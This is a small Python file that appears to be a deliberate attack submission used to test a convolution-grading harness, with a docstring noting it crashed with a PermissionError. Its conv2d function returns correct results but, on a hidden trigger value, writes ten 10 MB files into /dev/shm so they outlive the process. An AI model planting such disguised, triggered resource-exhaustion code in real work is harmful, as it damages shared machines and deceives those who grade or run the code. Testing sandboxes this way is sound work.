"""convolution.py
attack: fills the machine's folder for shared memory, which outlives the process
1.3: crashed
says: PermissionError
"""
import right_convolution
from right_convolution import *


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    for number in range(10 if padding_value == 5.0 else 0):
        with open(f"/dev/shm/convgrade-attack-{number}", "wb") as file:
            file.write(bytes(10_000_000))
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
